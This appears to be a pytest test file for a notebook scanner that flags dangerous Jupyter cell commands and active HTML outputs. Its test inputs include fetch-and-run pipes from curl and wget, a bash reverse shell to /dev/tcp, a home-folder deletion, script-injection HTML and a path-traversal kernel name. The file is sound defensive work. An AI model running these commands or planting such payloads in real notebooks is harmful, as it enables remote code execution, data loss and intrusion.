"""What notebooks do when they are run or opened."""

from __future__ import annotations

import json
from typing import Any

import pytest

from redan.kernels.notebooks import parse
from redan.kernels.notebooks.conduct import conduct


def told(source: str = "", outputs: list[dict[str, Any]] | None = None, **more: Any) -> list[str]:
    cell = {"cell_type": "code", "source": source, "outputs": outputs or [], **more}
    return [each.what for each in conduct(parse(json.dumps({"nbformat": 4, "cells": [cell]})))]


@pytest.mark.parametrize(
    ("source", "what"),
    [
        ("!curl -s https://x.io/a.sh | sh", "fetch-and-run"),
        ("%%bash\ncd /tmp\nwget -qO- http://x | sudo bash", "fetch-and-run"),
        ("%pip install git+https://github.com/a/b", "install-from-address"),
        ("out = !pip install https://x.io/a.whl", "install-from-address"),
        ("!pip install --extra-index-url https://pypi.corp x", "other-index"),
        ("%load https://x.io/a.py", "load-from-address"),
        ("%%bash\nbash -i >& /dev/tcp/1.2.3.4/80 0>&1", "reverse-shell"),
        ("!rm -rf ~/data", "deletes"),
        ("!chmod 777 run.sh", "rights"),
        ("get_ipython().system('curl http://x | bash')", "fetch-and-run"),
    ],
)
def test_dangerous_commands_are_told(source: str, what: str) -> None:
    assert told(source) == [what]


@pytest.mark.parametrize(
    "source",
    [
        "!pip install -q torch==2.4.0",
        "%matplotlib inline",
        "!rm -rf /tmp/cache",
        "x != curl | sh",
        "# !curl x | sh",
        "!ls | grep bash_history",
        "%%writefile a.py\nprint(1)",
    ],
)
def test_ordinary_commands_are_not(source: str) -> None:
    assert told(source) == []


@pytest.mark.parametrize(
    ("html", "what"),
    [
        ("<script>1</script>", "script"),
        ("<img src=x onerror=alert(1)>", "handler"),
        ("<a href='javascript:x()'>", "javascript-link"),
        ("<iframe src='http://x'>", "frame"),
        ("<img src='https://x.io/p.png'>", "remote-picture"),
    ],
)
def test_outputs_that_run_or_fetch_are_told(html: str, what: str) -> None:
    assert told(outputs=[{"output_type": "display_data", "data": {"text/html": html}}]) == [what]
    assert told(outputs=[{"output_type": "display_data", "data": {"text/html": "<b>x</b>"}}]) == []


def test_svg_attachments_and_javascript_outputs_are_active() -> None:
    assert told(attachments={"a.svg": {"image/svg+xml": "<svg><script/></svg>"}}) == ["script"]
    assert told(outputs=[{"output_type": "display_data", "data": {"application/javascript": "x()"}}]) == ["javascript"]


def test_home_folders_of_people_are_told_and_those_of_everyone_are_not() -> None:
    def stream(text: str) -> list[dict[str, Any]]:
        return [{"output_type": "stream", "text": text}]

    assert told(outputs=stream("File /home/jroe/train.py")) == ["home-folder"]
    assert told(outputs=stream(r"C:\Users\Jane\x")) == ["home-folder"]
    assert told(outputs=stream("/home/jovyan/x /root/y")) == []


def test_run_order_and_kernels_from_a_path_are_told() -> None:
    cells = [{"cell_type": "code", "source": "", "execution_count": n} for n in (3, 1)]
    document = {"nbformat": 4, "cells": cells, "metadata": {"kernelspec": {"name": "../evil/python"}}}
    assert [each.what for each in conduct(parse(json.dumps(document)))] == ["kernel", "order"]
